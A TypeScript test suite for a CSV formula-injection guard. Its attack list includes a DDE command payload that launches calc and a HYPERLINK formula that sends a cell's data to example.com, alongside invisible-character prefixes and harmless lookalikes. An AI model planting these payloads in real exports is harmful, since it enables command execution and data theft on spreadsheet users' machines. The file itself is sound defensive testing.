import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { looksLikeFormula } from '../../../../src/formats/csv/formula-guard.ts';
import { needsGuard } from '../../../support/oracles/formula.ts';
import { hostileText } from '../../../support/tables.ts';

const before = [
  '',
  ' ',
  '   ',
  '\u0000',
  '\ufeff',
  '\u200e',
  '\u200f',
  '\u202e',
  '\u2066',
  '\u061c',
  '\n',
  '\r\n',
  '\t',
  '\r',
];
const invisible = [
  '\u00a0',
  '\u3000',
  '\u2003',
  '\u200b',
  '\u00ad',
  '\u0085',
  '\u001f',
  '\u007f',
  '\u2028',
  ' \ufeff\u0000 ',
];

const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '+1+1',
  '+cmd|x!A0',
  '-1+1',
  '-cmd|x!A0',
  '@SUM(1,2)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=',
  '+',
  '-=1',
  '+-5',
  '--5',
  '-5-5',
  '-5e',
  '-1.2.3',
  '－5',
  '-٥',
  '=5',
];

describe('the formula guard', () => {
  test.each(before.concat(invisible).map((text) => [JSON.stringify(text), text]))(
    'detects every attack behind %s',
    (_, prefix) => {
      for (const attack of attacks) expect([attack, looksLikeFormula(prefix + attack)]).toEqual([attack, true]);
    },
  );

  test.each([
    '-5.2',
    '+1',
    '1e-7',
    '-1e-7',
    '-0',
    '+.5',
    '-,5',
    '-5,2',
    '-5.',
    '1',
    '  -5 ',
    '-1E+10',
    '+1e5',
    '-12345678901234567890',
  ])('leaves the plain number %s alone', (text) => expect(looksLikeFormula(text)).toBe(false));

  test.each([
    '',
    ' ',
    '\u0000',
    '\n',
    'a=b',
    'CO₂',
    'Ω',
    '1+1',
    '5-3',
    'a@b.example',
    '100%',
    '%',
    '%RH',
    '%EL',
    '% RH',
    '|x|',
    '-',
    '--',
    ' --- ',
    "'=1",
    '"=1"',
    '_=1',
    '(=1)',
    '*',
    '/',
    '#',
    '°C',
    'urn:tetouan:temperature',
    '__proto__',
    '−5',
    '\u00a0a',
    'µ-',
    '２＋２',
  ])('leaves the text %j alone', (text) => expect(looksLikeFormula(text)).toBe(false));

  test.each(['\tabc', '\rabc', '  \tabc', '\t', '\t5'])('detects the leading tab or CR of %j', (text) =>
    expect(looksLikeFormula(text)).toBe(text !== '\t5'),
  );

  test('follows the contract for texts of hostile characters', () => {
    const signs = fc.string({
      unit: fc.constantFrom(...' \t\r\n\u0000\ufeff\u200f=+-@|%＝＋－0123456789.,eE', 'a'),
      maxLength: 6,
    });
    fc.assert(
      fc.property(fc.oneof(hostileText, signs), (text) => {
        expect(looksLikeFormula(text)).toBe(needsGuard(text));
      }),
      { numRuns: 8000 },
    );
  });
});
